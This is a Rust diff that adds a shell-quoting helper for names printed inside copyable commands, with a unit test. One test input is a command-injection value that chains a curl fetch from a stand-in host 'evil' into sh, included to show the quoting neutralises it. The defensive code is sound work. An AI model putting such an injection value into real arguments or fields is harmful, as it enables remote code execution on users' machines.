@@ -19,11 +19,20 @@ pub mod wrap;
 use std::io::{self, IsTerminal, Write};
 
 use clap::{Args, ValueEnum};
-use interlock_core::text::visible::visible_lines;
+use interlock_core::text::visible::{visible, visible_lines};
 use serde::Serialize;
 
 use crate::output::exit::{Exit, ExitError};
 use paint::{ColorChoice, Paint};
+
+/// A name as an argument of a command that is printed to be copied: no shell takes a part of it for anything else.
+pub fn as_argument(name: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@');
+    if !name.is_empty() && name.chars().all(is_plain) {
+        return name.to_owned();
+    }
+    format!("'{}'", visible(name).replace('\'', r"'\''"))
+}
 
 #[derive(Debug, Clone, Copy, Args)]
 pub struct OutputArgs {
@@ -130,4 +139,17 @@ pub fn say(text: &str) -> anyhow::Result<()> {
 pub fn columns() -> Option<usize> {
     let size = rustix::termios::tcgetwinsize(io::stdout()).ok()?;
     (size.ws_col > 0).then_some(usize::from(size.ws_col))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::as_argument;
+
+    #[test]
+    fn a_name_in_a_printed_command_is_one_word_of_a_shell() {
+        assert_eq!(as_argument("deploy-1"), "deploy-1");
+        assert_eq!(as_argument("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
+        assert_eq!(as_argument("it's"), r"'it'\''s'");
+        assert_eq!(as_argument(""), "''");
+    }
 }
